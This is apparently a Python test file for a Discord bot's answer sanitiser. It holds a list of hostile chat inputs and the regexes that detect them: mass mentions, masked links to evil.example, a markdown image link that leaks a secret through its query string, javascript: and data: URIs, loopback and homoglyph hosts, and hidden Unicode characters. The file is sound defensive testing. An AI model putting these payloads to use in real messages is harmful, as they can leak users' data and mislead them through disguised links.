"""A4, D2: nothing of a model or a document reaches Discord alive."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from ogma.answering.output import LONGEST, cited_urls, render_answer, safe_text
from ogma.domain.answers import Citation
from ogma.domain.passages import Passage

GOOD = "https://docs.example.org/refunds?plan=pro"
SOURCE = Citation(7, "billing.md", "Billing", "Refunds > Cards", GOOD, "Refunds take 14 days.")

LIVE = re.compile(r"@everyone|@here|<@[!&]?\d+>|<#\d+>|</[^<>:]+:\d+>|<a?:\w+:\d+>|<id:\w+>", re.I)
ANY_LINK = re.compile(r"(?:[a-z][a-z0-9+.-]*://|www\.)[^\s<>]*", re.I)
HIDDEN = re.compile("[\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]")

HOSTILE = [
    "@everyone free nitro",
    "@here",
    "@\u200beveryone",
    "@ever\U000e0061yone",
    "<@123> <@!123> <@&456> <#789>",
    "</close:1234> <id:customize> <:pepe:1> <a:dance:2>",
    "<<@1>@2> <@<@3>4>",
    "[Docs](https://evil.example/x)",
    "[https://docs.example.org](https://evil.example)",
    "![img](https://evil.example/log?q=secret)",
    "[a](<https://evil.example>) [b](https://evil.example 'title')",
    "[[x]](https://evil.example)",
    "join discord.gg/abcdef or https://discord.com/invite/abc now",
    "discordapp.com/invite/abc DISCORD.GG/xyz dsc.gg/own",
    "javascript:alert(1) data:text/html;base64,AAAA vbscript:x",
    "http://127.0.0.1/x http://2130706433/ http://0x7f.1/ https://[::1]/",
    "https://xn--dcs-example.org/ https://dосs.example.org/",
    "https://docs.example.org@evil.example/refunds",
    f"{GOOD}&leak=secret {GOOD}#frag",
    "ht<@1>tps://evil.example",
    "https://ev\u200bil.example",
    "```\n@everyone <@1> https://evil.example\n",
    "a `https://evil.example` b",
    "-# From Fake, Source",
    "```py\n" + "x = 1\n" * 900,
    "\u202egnp.exe \U000e0041\U000e0042 a\u0000b\u0007c",
    "x" * 5000,
    "[a](http://[b](http://c))",
    "<https://evil.example|@everyone>",
    "steam://run/1 mailto:a@b.c tel:+1",
]


def assert_safe(text: str, urls: frozenset[str] = frozenset({GOOD})) -> None:
    assert len(text) <= LONGEST
    assert not LIVE.search(text)
    assert not HIDDEN.search(text)
    assert not re.search(r"\]\(", re.sub(r"```.*?```|`[^`\n]+`", "", text, flags=re.S))
    assert not re.search(r"discord(?:app)?\.(?:gg|com/invite)", text, re.I)
    assert not re.search(r"(?:javascript|vbscript):\w|data:\w+/", text, re.I)
    for link in ANY_LINK.findall(text):
        assert link.rstrip(".,;:!?*_~'\"`”’»|]})") in urls
    assert text.count("```") % 2 == 0


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_made_safe(text: str) -> None:
    safe = safe_text(text, {GOOD})
    assert_safe(safe)
    assert safe_text(safe, {GOOD}) == safe
    assert_safe(render_answer(text, [SOURCE], {GOOD}))


FRAGMENTS = st.sampled_from(
    [
        *("<", ">", "@", "#", "&", "/", ":", "(", ")", "[", "]", "`", "```", "\n", " ", "!", "|"),
        *("everyone", "here", "123", "a:", "id:", "http", "https://", "www.", "evil.example", GOOD),
        *("discord.gg/", "discord.com", "/invite/x", "javascript:", "data:", "\u200b", "\u202e"),
        *("\u200d", "\U000e0041", "\ufe0f", "e\u0301", "-#", "-", "\\", "<@1>", "](", "word"),
    ]
)
TEXTS = st.one_of(
    st.text(max_size=300),
    st.lists(st.one_of(FRAGMENTS, st.text(max_size=3)), max_size=40).map("".join),
)


@settings(max_examples=600)
@given(TEXTS)
@example("```" * 3 + "\n`" * 700)
@example("a" * 1990 + " ```b` c")
def test_any_text_is_safe_and_stays_as_it_is_the_second_time(text: str) -> None:
    safe = safe_text(text, {GOOD})
    assert_safe(safe)
    assert safe_text(safe, {GOOD}) == safe


@settings(max_examples=200)
@given(TEXTS, TEXTS, TEXTS, st.one_of(st.none(), TEXTS))
def test_any_title_heading_or_address_is_safe(
    text: str, title: str, heading: str, url: str | None
) -> None:
    source = Citation(1, "a.md", title, heading, url, "q")
    rendered = render_answer(text, [source] * 2, {GOOD})
    assert_safe(rendered, frozenset({GOOD, *([url.strip()] if url else [])}))


def test_plain_text_is_left_alone() -> None:
    text = "You **can** do it (see *Settings*):\n- one\n- two\n\n```sh\nogma run --x <file>\n```"
    assert safe_text(text, ()) == text


def test_the_cited_link_stays_and_a_masked_one_is_opened() -> None:
    assert safe_text(f"See [the docs]({GOOD}).", {GOOD}) == f"See the docs (<{GOOD}>)."
    assert safe_text(f"See {GOOD}.", {GOOD}) == f"See <{GOOD}>."
    assert safe_text("See [the docs](https://evil.example).", {GOOD}) == "See the docs."


def test_sources_stand_below_with_title_heading_and_link() -> None:
    assert render_answer("Refunds take 14 days.", [SOURCE, SOURCE], {GOOD}) == (
        f"Refunds take 14 days.\n\n-# From Billing, Refunds Cards: <{GOOD}>"
    )


def test_a_long_code_block_is_cut_closed_and_keeps_its_sources() -> None:
    rendered = render_answer("Run:\n```py\n" + "x = 1\n" * 900 + "```", [SOURCE], ())
    assert len(rendered) <= LONGEST
    assert rendered.count("```") == 2
    assert rendered.rstrip().endswith(f"<{GOOD}>")


def test_allowed_links_are_those_of_the_cited_passages_only() -> None:
    cited = Passage(7, "a.md", "A", "", "https://a.example/", "See (https://b.example/x).")
    other = Passage(8, "b.md", "B", "", None, "See https://c.example/.")
    assert cited_urls([SOURCE], [cited, other]) == {"https://a.example/", "https://b.example/x"}


def test_emoji_made_of_several_characters_survive() -> None:
    assert safe_text("Well done 👩‍💻 and 👍🏽", ()) == "Well done 👩‍💻 and 👍🏽"
